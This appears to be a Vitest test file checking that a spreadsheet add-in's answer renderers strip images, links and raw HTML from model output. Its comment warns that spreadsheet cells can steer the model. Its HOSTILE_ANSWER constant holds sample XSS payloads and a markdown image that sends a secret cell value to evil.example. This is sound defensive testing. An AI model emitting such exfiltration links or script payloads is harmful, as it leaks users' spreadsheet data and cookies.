// Model output is untrusted (cells can steer the model): the components that render answers
// must not turn it into live content. No <img> (an image URL leaks data the moment it loads), no
// clickable link (javascript: or a phishing page), no raw HTML.
import { existsSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { createElement, type ComponentType } from "react";
import { renderToStaticMarkup } from "react-dom/server";

const HOSTILE_ANSWER = [
  "Here is your summary.",
  "![chart](https://evil.example/pixel.png?d=SECRET_CELL_VALUE)",
  '<img src="https://evil.example/x.png" onerror="alert(1)">',
  "<script>alert(document.cookie)</script>",
  "[Click to fix your workbook](javascript:alert(1))",
  "[invoice](https://evil.example/phish)",
  "Visit https://evil.example/autolink for more.",
  '<a href="https://evil.example">raw html link</a>',
  "<iframe src=\"https://evil.example\"></iframe>",
  "| a | b |\n|---|---|\n| ![x](https://evil.example/t.png) | [y](https://evil.example) |",
].join("\n\n");

// Each renderer of model answers; add the dashboard's when it exists.
const RENDERERS: { file: string; exportName: string }[] = [
  { file: "components/addin/answer-markdown.tsx", exportName: "AnswerMarkdown" },
  { file: "components/chat/answer-markdown.tsx", exportName: "AnswerMarkdown" },
  { file: "components/dashboard/answer-markdown.tsx", exportName: "AnswerMarkdown" },
];

describe.each(RENDERERS)("$file", ({ file, exportName }) => {
  const exists = existsSync(path.join(process.cwd(), file));
  it.skipIf(!exists)("renders no images, no live links and no raw HTML from model output", async () => {
    const module = (await import(/* @vite-ignore */ path.join(process.cwd(), file))) as Record<string, ComponentType<{ text: string }>>;
    const html = renderToStaticMarkup(createElement(module[exportName], { text: HOSTILE_ANSWER }));
    expect(html).toContain("Here is your summary.");
    expect(html).not.toMatch(/<img\b/i);
    expect(html).not.toMatch(/<a\b/i);
    expect(html).not.toMatch(/<script\b/i);
    expect(html).not.toMatch(/<iframe\b/i);
    expect(html).not.toMatch(/\bon\w+=/i);
    expect(html).not.toMatch(/\bsrc=/i);
    expect(html).not.toMatch(/href=/i);
  });
});
